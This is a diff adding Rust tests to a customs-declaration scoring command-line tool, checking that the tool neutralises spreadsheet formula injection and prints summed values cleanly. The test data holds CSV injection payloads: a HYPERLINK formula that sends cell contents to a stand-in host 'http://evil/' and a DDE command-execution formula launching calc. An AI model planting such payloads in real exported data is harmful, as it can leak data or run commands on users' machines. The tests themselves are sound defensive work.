@@ -205,3 +205,35 @@ fn what_files_hold_cannot_reach_a_terminal() {
     let ran = desk.run("score hostile\u{9b}2J.csv --rules harbour -o out.csv").exits(1);
     assert!(!is_harmful(&ran.stderr), "{:?}", ran.stderr);
 }
+
+#[test]
+fn nothing_that_declarants_write_runs_in_a_spreadsheet() {
+    let desk = Desk::new();
+    desk.write(
+        "d.csv",
+        "declaration_id,item_no,hs,destination,mode,exporter,quantity\n\"=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",1,8711,\
+         KE,0110,=CMD|' /C calc'!A0,1\n@D2,1,8711,KE,0110,E1,=1+1\n",
+    );
+    desk.run("score d.csv --rules harbour -o out.csv --rejects rejects.csv").exits(0);
+    let (out, rejects) = (desk.read("out.csv"), desk.read("rejects.csv"));
+    assert!(out.contains("\n\"'=HYPERLINK(\"\"http") && out.contains("\n'@D2,"), "{out}");
+    assert!(rejects.contains(",'@D2,quantity,'=1+1,"), "{rejects}");
+    // What is read back is what was declared.
+    let id = desk.run("explain @D2 d.csv --rules harbour --format json").exits(0).json();
+    assert_eq!(id["declaration_id"], "@D2");
+}
+
+#[test]
+fn numbers_are_written_as_people_write_them() {
+    let desk = Desk::new();
+    desk.write("harbour/more.rhai", "rule(\"SUM\", #{ title: \"Sum\", score: 1, when: |d| d.value > 0, reason: |d| `${d.declaration_value} USD` });");
+    desk.write(
+        "d.csv",
+        "declaration_id,item_no,hs,destination,mode,quantity,value\nD1,1,610910,DE,0110,3,38061.92\nD1,2,610910,DE,0110,3,0.01\n\
+         D2,1,610910,DE,0110,1,0.1\nD2,2,610910,DE,0110,1,0.2\n",
+    );
+    let out = desk.run("score d.csv --rules harbour --reasons").exits(0).stdout;
+    assert!(out.contains("38061.93 USD") && out.contains(": 0.3 USD") && !out.contains("00000"), "{out}");
+    let told = desk.run("explain D2 d.csv --rules harbour --all").exits(0).stdout;
+    assert!(told.contains("0.3 USD") && !told.contains("00000"), "{told}");
+}
